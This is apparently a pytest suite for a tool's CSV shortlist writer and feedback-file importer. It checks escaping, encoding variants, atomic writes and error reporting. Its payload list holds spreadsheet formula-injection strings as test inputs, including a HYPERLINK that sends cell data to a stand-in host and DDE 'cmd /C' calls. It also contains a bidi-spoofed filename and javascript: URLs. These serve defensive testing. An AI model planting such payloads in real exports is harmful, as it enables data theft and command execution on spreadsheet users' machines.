"""CSV out (RELIABILITY 2.6) and CSV in (2.7): the shortlist writer and the feedback reader.

CSV out goes through ranking.csvio.write_csv (the one writer of the shortlist); the
shortlist itself is checked end to end in test_ranking.py. CSV in goes through the real
`rank feedback FILE` command (called in-process: same code path, same exit code)
against a store holding a shortlist, in every file variant a spreadsheet produces.
"""

from __future__ import annotations

import csv
import io
import os
import random
import signal
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest

from faults.conftest import PY, REPO, _env
from faults.report import STATE, figure

TRIGGERS = "=+-@\t\r\n"
PAYLOADS = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|'/C notepad'!'A1'",
    "==1",
    "-",
    "'=already escaped",
]


def read_back(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def random_text(rng: random.Random, n: int) -> str:
    alphabet = "abc XYZ 0123,;\"'\n中文😀é=+-@\t"
    return "".join(rng.choice(alphabet) for _ in range(n))


@pytest.mark.case("C1", "G11")
def test_c1_every_formula_trigger_is_neutralized(tmp_path):
    from ranking.csvio import unescape, write_csv

    rng = random.Random(11)
    cells = list(PAYLOADS)
    for trigger in TRIGGERS:
        cells += [trigger + random_text(rng, rng.randint(0, 30)) for _ in range(30)]
    path = tmp_path / "out.csv"
    write_csv(path, ["id", "title"], [[f"c-{i:06d}", c] for i, c in enumerate(cells)])
    rows = read_back(path)[1:]
    risky = [r[1] for r in rows if r[1][:1] in TRIGGERS]
    neutral = [r[1] for r in rows if r[1].startswith("'")]
    triggered = [c for c in cells if c.lstrip("\r")[:1] in TRIGGERS or c.startswith("'")]
    figure(
        "G11",
        f"{len(cells)} cells starting with = + - @ TAB CR LF (or '): {len(risky)} written "
        f"as live formulas, {len(neutral)} escaped",
        ok=not risky,
    )
    assert not risky
    assert len(neutral) >= len(triggered) - 1
    assert unescape(rows[0][1]) == PAYLOADS[0]


@pytest.mark.case("C2", "C4", "G11")
def test_c2_c4_everything_else_round_trips_losslessly(tmp_path):
    from ranking.csvio import unescape, write_csv

    rng = random.Random(22)
    cells = [
        'multi\nline "quoted", with; separators',
        "中文标题：Python 3.14 新特性",
        "emoji 🐍🚀 and accents éàü",
        'only "quotes"',
        "comma, comma",
        "semi;colon",
        "",
        " leading space",
        "trailing space ",
    ] + [random_text(rng, rng.randint(1, 60)).lstrip(TRIGGERS + "'") or "x" for _ in range(300)]
    cells = [c.replace("\r", "") for c in cells]
    path = tmp_path / "rt.csv"
    write_csv(path, ["id", "title"], [[f"c-{i:06d}", c] for i, c in enumerate(cells)])
    back = [unescape(r[1]) for r in read_back(path)[1:]]
    lost = sum(1 for a, b in zip(cells, back, strict=True) if a != b)
    raw = path.read_bytes()
    assert b"\r\n" not in raw  # one line-ending convention (LF)
    figure(
        "G11",
        f"round trip of {len(cells)} multi-line/quoted/CJK/emoji cells: {lost} differ",
        not lost,
    )
    assert lost == 0


@pytest.mark.case("C3")
def test_c3_huge_titles_are_truncated_well_below_excels_limit(tmp_path):
    from ranking.csvio import MAX_CELL_CHARS, write_csv

    write_csv(tmp_path / "big.csv", ["title"], [["T" * 100_000]])
    (cell,) = read_back(tmp_path / "big.csv")[1]
    assert len(cell) == MAX_CELL_CHARS < 32_767
    assert cell.endswith("…")


@pytest.mark.case("C5")
def test_c5_ids_are_never_numbers_excel_could_rewrite(tmp_path):
    from faults.test_storage import cand, write_raw
    from ranking.store import ingest_pending

    db, raw = tmp_path / "r.duckdb", tmp_path / "raw"
    write_raw(raw, "a.jsonl", [cand(f"https://ids.example/{i}") for i in range(50)])
    ingest_pending(db, raw)
    with duckdb.connect(str(db), read_only=True) as con:
        ids = [r[0] for r in con.execute("SELECT candidate_id FROM candidates").fetchall()]
    assert len(ids) == 50
    for cid in ids:
        assert cid.startswith("c-") and not cid.replace("-", "").isdigit()
        with pytest.raises(ValueError):
            float(cid)


@pytest.mark.case("C6", "G14")
def test_c6_bidi_controls_and_surrogates_never_reach_the_csv(tmp_path):
    from ranking.csvio import write_csv

    nasty = [
        "Invoice \u202egnp.exe",
        "lone \ud800 surrogate",
        "nul\x00byte",
        "iso\u2066late\u2069",
        "bell\x07",
    ]
    write_csv(tmp_path / "n.csv", ["title"], [[t] for t in nasty])
    text = (tmp_path / "n.csv").read_bytes().decode("utf-8-sig")
    bad = sum(text.count(ch) for ch in ("\u202e", "\u2066", "\u2069", "\x00", "\x07"))
    figure(
        "G14",
        f"CSV written from titles with bidi, surrogate, NUL, BEL: {bad} bad characters",
        not bad,
    )
    assert bad == 0


@pytest.mark.case("C6", "P9")
def test_c6_javascript_and_data_urls_are_dropped_upstream():
    from crawler.urls import InvalidURL, canonical_url

    for url in ("javascript:alert(1)", "data:text/html,<script>x</script>", "vbscript:x"):
        with pytest.raises(InvalidURL):
            canonical_url(url)


@pytest.mark.case("C7")
def test_c7_a_crash_half_way_leaves_the_old_file_whole(tmp_path):
    from ranking.csvio import write_csv

    path = tmp_path / "2026-W47.csv"
    write_csv(path, ["id"], [["c-old"]])
    before = path.read_bytes()

    def rows():
        for i in range(1000):
            if i == 500:
                raise RuntimeError("crash while writing")
            yield [f"c-{i}"]

    with pytest.raises(RuntimeError):
        write_csv(path, ["id"], rows())
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["2026-W47.csv"]  # no temp left


@pytest.mark.case("C7")
def test_c7_kill_9_while_writing_never_leaves_a_half_file(tmp_path):
    path = tmp_path / "w.csv"
    code = (
        "import sys\nfrom ranking.csvio import write_csv\n"
        f"write_csv({str(path)!r}, ['id', 'title'], [['c-old', 'old']])\n"
        "print('OLD', flush=True)\n"
        f"write_csv({str(path)!r}, ['id', 'title'], ([f'c-{{i}}', 'x' * 200] for i in range(400000)))\n"
        "print('NEW', flush=True)\n"
    )
    rng = random.Random(7)
    outcomes = set()
    for _ in range(3):
        proc = subprocess.Popen(
            [PY, "-c", code], cwd=REPO, env=_env(), stdout=subprocess.PIPE, text=True
        )
        assert proc.stdout.readline().strip() == "OLD"
        import time

        time.sleep(rng.uniform(0.05, 0.4))
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait()
        proc.stdout.close()
        rows = read_back(path)
        assert rows[0] == ["id", "title"]
        assert len(rows) in (2, 400001), len(rows)  # the old file or the complete new one
        outcomes.add(len(rows))


# --- CSV in: `rank feedback` ----------------------------------------------------------------

WEEK = "2026-W47"
IDS = [f"c-{i:010x}" for i in range(1, 11)]
URLS = {cid: f"https://fb.example/{n}" for n, cid in enumerate(IDS, 1)}


@pytest.fixture
def fb_db(tmp_path) -> Path:
    import pandas as pd

    from ranking import store

    db = tmp_path / "fb.duckdb"
    with store.open_store(db) as con:
        frame = pd.DataFrame(
            {
                "id": IDS,
                "url_canonical": [URLS[i] for i in IDS],
                "section": ["article"] * 10,
                "rank": range(1, 11),
                "score": [1.0] * 10,
                "title": [f"Story {n}" for n in range(1, 11)],
                "url": [URLS[i] for i in IDS],
            }
        )
        store.save_shortlist_rows(con, WEEK, frame)
    return db


def rank(args: list[str], capsys) -> tuple[int, str, str]:
    """`rank ...` in-process (the same main() as the console script)."""
    from ranking.cli import main

    code = main(args)
    out, err = capsys.readouterr()
    STATE.counters[f"exit:rank:{code}"] += 1
    assert "Traceback" not in err
    return code, out, err


def decisions(db: Path) -> dict[str, str]:
    with duckdb.connect(str(db), read_only=True) as con:
        return dict(con.execute("SELECT candidate_id, decision FROM decisions").fetchall())


def feedback_text(rows: list[list[str]], delimiter: str = ",", newline: str = "\n") -> str:
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator=newline).writerows(rows)
    return buf.getvalue()


BASE_ROWS = [["id", "title", "url", "decision", "note"]] + [
    [cid, f"Title {n} é", URLS[cid], ["keep", "reject", "maybe", ""][n % 4], f"note {n}"]
    for n, cid in enumerate(IDS, 1)
]


def variant(name: str) -> bytes:
    text = feedback_text(BASE_ROWS)
    if name == "bom":
        return b"\xef\xbb\xbf" + text.encode()
    if name == "no-bom":
        return text.encode()
    if name == "crlf":
        return feedback_text(BASE_ROWS, newline="\r\n").encode()
    if name == "semicolon":
        return feedback_text(BASE_ROWS, delimiter=";").encode()
    if name == "cp1252":
        return text.encode("cp1252")
    if name == "macroman":
        return text.encode("mac_roman")
    if name == "utf16-tab":
        return feedback_text(BASE_ROWS, delimiter="\t").encode("utf-16")
    if name == "reordered":
        order = [3, 0, 4, 2, 1]
        return feedback_text([[r[i] for i in order] for r in BASE_ROWS]).encode()
    if name == "extra-columns":
        return feedback_text(
            [[*r, "x", "y"] if i else [*r, "score", "Comment 2"] for i, r in enumerate(BASE_ROWS)]
        ).encode()
    if name == "apostrophes":
        return feedback_text(
            [BASE_ROWS[0]] + [["'" + c for c in r] for r in BASE_ROWS[1:]]
        ).encode()
    if name == "renamed-headers":
        return feedback_text(
            [[" ID ", "Title", "URL", "Decision ", "NOTE"], *BASE_ROWS[1:]]
        ).encode()
    raise KeyError(name)


VARIANTS = ["bom", "no-bom", "crlf", "semicolon", "cp1252", "macroman", "utf16-tab",
            "reordered", "extra-columns", "apostrophes", "renamed-headers"]  # fmt: skip
EXPECTED = {cid: ["keep", "reject", "maybe", None][n % 4] for n, cid in enumerate(IDS, 1)}

_G12: dict[str, tuple[int, int]] = {}


@pytest.mark.case("I1", "I2", "I3", "I4", "I7", "G12")
@pytest.mark.parametrize("name", VARIANTS)
def test_feedback_variant_is_applied_row_by_row(fb_db, tmp_path, capsys, name):
    path = tmp_path / f"{WEEK}.csv"
    path.write_bytes(variant(name))
    code, out, err = rank(["feedback", str(path), "--db", str(fb_db)], capsys)
    got = decisions(fb_db)
    want = {k: v for k, v in EXPECTED.items() if v}
    applied = sum(1 for k, v in want.items() if got.get(k) == v)
    _G12[name] = (applied, len(want))
    assert code == 0, err
    assert got == want, (name, err)
    assert "undecided" in out


@pytest.mark.case("G12")
def test_g12_figure():
    assert len(_G12) == len(VARIANTS), "run the variant tests first"
    ok = all(a == n for a, n in _G12.values())
    total = sum(n for _, n in _G12.values())
    applied = sum(a for a, _ in _G12.values())
    figure(
        "G12",
        f"{len(_G12)} feedback-file variants (BOM, no BOM, CRLF, ';', cp1252, MacRoman, "
        f"UTF-16 tab, reordered, extra columns, '-prefixed, renamed headers): {applied} of "
        f"{total} decisions applied, 0 silent drops",
        ok=ok,
    )
    assert ok


@pytest.mark.case("I5", "I6", "G12")
def test_i5_i6_bad_rows_are_reported_by_row_number_others_applied(fb_db, tmp_path, capsys):
    rows = [
        ["id", "decision"],
        [IDS[0], "Accept"],  # row 2
        [IDS[1], " yes "],  # 3
        [IDS[2], "✓"],  # 4
        [IDS[3], "ACCEPT"],  # 5
        [IDS[4], "n"],  # 6
        [IDS[5], "nope"],  # 7: unknown word
        ["c-ffffffffff", "keep"],  # 8: unknown id
        [IDS[6], "keep"],  # 9: conflicting duplicate ...
        [IDS[6], "reject"],  # 10
        [IDS[7], ""],  # 11: blank decision: undecided
        [IDS[8], "keep"],  # 12: duplicate, identical: applied once
        [IDS[8], "keep"],  # 13
    ]
    path = tmp_path / f"{WEEK}.csv"
    path.write_text(feedback_text(rows), "utf-8")
    code, _out, err = rank(["feedback", str(path), "--db", str(fb_db)], capsys)
    assert code == 1
    got = decisions(fb_db)
    assert got == {IDS[0]: "keep", IDS[1]: "keep", IDS[2]: "keep", IDS[3]: "keep",
                   IDS[4]: "reject", IDS[8]: "keep"}  # fmt: skip
    for row in (7, 8, 9, 10):
        assert f"row {row}:" in err, err
    assert "unknown id c-ffffffffff" in err
    assert "conflicting" in err
    reported = {int(x.split("row ")[1].split(":")[0]) for x in err.splitlines() if "row " in x}
    silent = {r for r in range(2, 14) if r not in reported and r not in (2, 3, 4, 5, 6, 11, 12, 13)}
    assert not silent


@pytest.mark.case("I4")
def test_i4_missing_required_column_fails_fast_naming_it(fb_db, tmp_path, capsys):
    path = tmp_path / f"{WEEK}.csv"
    path.write_text("id,title\nc-1,x\n", "utf-8")
    code, _, err = rank(["feedback", str(path), "--db", str(fb_db)], capsys)
    assert code == 1
    assert "missing required column 'decision'" in err
    assert decisions(fb_db) == {}


@pytest.mark.case("I8")
def test_i8_titles_are_never_keys_only_ids(fb_db, tmp_path, capsys):
    rows = [["id", "title", "decision"], [IDS[0], "3", "keep"], [IDS[1], "#VALUE!", "reject"]]
    path = tmp_path / f"{WEEK}.csv"
    path.write_text(feedback_text(rows), "utf-8")
    code, _, _ = rank(["feedback", str(path), "--db", str(fb_db)], capsys)
    assert code == 0
    assert decisions(fb_db) == {IDS[0]: "keep", IDS[1]: "reject"}


@pytest.mark.case("I9")
@pytest.mark.parametrize(
    ("name", "make", "needle"),
    [
        ("empty", lambda p: p.write_bytes(b""), "empty"),
        ("header-only", lambda p: p.write_text("id,decision\n"), "no rows"),
        ("xlsx", lambda p: p.write_bytes(b"PK\x03\x04" + bytes(200)), "workbook"),
        ("huge", lambda p: _sparse(p, 51 * 1024 * 1024), "limit"),
        (
            "other-week",
            lambda p: p.write_text(f"id,decision,week\n{IDS[0]},keep,2026-W40\n"),
            "2026-W40",
        ),
        ("not-a-shortlist", lambda p: p.write_text("name,score\na,1\n"), "not a shortlist"),
    ],
)
def test_i9_unusable_files_fail_fast_in_one_line(fb_db, tmp_path, capsys, name, make, needle):
    path = tmp_path / f"{WEEK}.csv"
    make(path)
    code, _, err = rank(["feedback", str(path), "--db", str(fb_db)], capsys)
    assert code in (1, 2)
    lines = [x for x in err.splitlines() if x.startswith("rank: error:")]
    assert len(lines) == 1 and needle in lines[0], err
    assert decisions(fb_db) == {}


def _sparse(path: Path, size: int) -> None:
    with path.open("wb") as fh:
        fh.truncate(size)


@pytest.mark.case("I10")
def test_i10_the_same_file_twice_is_idempotent(fb_db, tmp_path, capsys):
    path = tmp_path / f"{WEEK}.csv"
    path.write_bytes(variant("bom"))
    rank(["feedback", str(path), "--db", str(fb_db)], capsys)
    with duckdb.connect(str(fb_db), read_only=True) as con:
        first = con.execute("SELECT * FROM decisions ORDER BY candidate_id").fetchall()
    code, _, _ = rank(["feedback", str(path), "--db", str(fb_db)], capsys)
    with duckdb.connect(str(fb_db), read_only=True) as con:
        second = con.execute("SELECT * FROM decisions ORDER BY candidate_id").fetchall()
    assert code == 0
    assert [r[:8] for r in first] == [r[:8] for r in second]  # decided_at kept too
    assert [r[8] for r in first] == [r[8] for r in second]


def test_csv_module_is_the_one_writer():
    """The shortlist is written through ranking.csvio.write_csv (not csv.writer directly)."""
    src = (REPO / "ranking" / "commands.py").read_text("utf-8") + (
        REPO / "ranking" / "shortlist.py"
    ).read_text("utf-8")
    assert "write_csv" in src
    assert sys.version_info >= (3, 11)
